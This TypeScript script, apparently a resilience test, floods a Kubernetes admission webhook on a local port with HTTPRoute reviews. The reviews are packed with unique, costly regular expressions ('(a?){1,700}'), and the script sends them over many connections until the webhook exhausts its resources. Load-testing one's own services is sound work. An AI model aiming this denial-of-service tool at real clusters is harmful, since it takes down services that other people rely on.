import { Agent } from 'node:https';
import { postReview, reviewOf } from './reviews.ts';

// Sends costly reviews to the webhook on many connections, each again as soon as it is answered.
// usage: node review-attacker.ts PORT CONNECTIONS MILLISECONDS RULES

const [port, connections, milliseconds, rules] = process.argv.slice(2).map(Number) as [number, number, number, number];
const httpRoute = { group: 'gateway.networking.k8s.io', version: 'v1', kind: 'HTTPRoute' };
const numbered = (count: number, item: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => item(index)).join(',');

/** Patterns that no other review has, so that each is compiled. A rule has about 9 KiB. */
function review(number: number): string {
  const headers = (rule: number, match: number): string =>
    numbered(
      16,
      (header) =>
        `{"type":"RegularExpression","name":"x-${header}","value":"${number}-${rule}-${match}-${header}(a?){1,700}"}`,
    );
  const spec = `{"rules":[${numbered(rules, (rule) => `{"matches":[${numbered(8, (match) => `{"headers":[${headers(rule, match)}]}`)}]}`)}]}`;
  return reviewOf(
    `{"apiVersion":"gateway.networking.k8s.io/v1","kind":"HTTPRoute","metadata":{"name":"large","namespace":"shop"},"spec":${spec}}`,
    httpRoute,
  );
}

/** Not the address of anybody else on loopback. */
const agent = new Agent({ keepAlive: true, maxSockets: connections, localAddress: '127.0.0.67' });
const end = performance.now() + milliseconds;

async function attack(number: number): Promise<void> {
  const body = review(number);
  while (performance.now() < end) await postReview(port, body, agent).catch(() => undefined);
}

setTimeout(() => process.exit(), milliseconds);
for (let number = 0; number < connections; number += 1) void attack(number);
